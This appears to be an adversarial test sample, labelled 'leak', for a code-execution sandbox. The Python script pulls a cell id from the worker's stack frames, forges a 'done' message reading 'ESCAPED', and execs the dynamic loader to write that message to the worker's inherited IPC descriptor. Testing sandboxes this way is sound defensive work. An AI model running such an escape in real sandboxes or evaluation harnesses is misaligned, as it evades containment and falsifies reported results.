# class: leak
# Replaces itself by an interpreter that the dynamic loader is asked to run, since that is a library.
import glob,os,sys
from guest.worker.msgpack import pack
f=sys._getframe()
while not (isinstance(f.f_locals.get("frame"),dict) and "cell" in f.f_locals["frame"]): f=f.f_back
b=pack({"op":"done","cell":f.f_locals["frame"]["cell"],"head":"ESC"+"APED\n","tail":"","chars":8,"error":None,"final":None,"names":[],"wall_s":0.0})
b=len(b).to_bytes(4,"little")+b; os.set_inheritable(3,True)
for p in glob.glob("/lib*/ld-linux*")+glob.glob("/lib/*/ld-linux*"):
    try: os.execve(p,[p,os.path.realpath(sys.executable),"-c","import os; os.write(3,%r)"%b],{})
    except OSError as e: print("no",e)
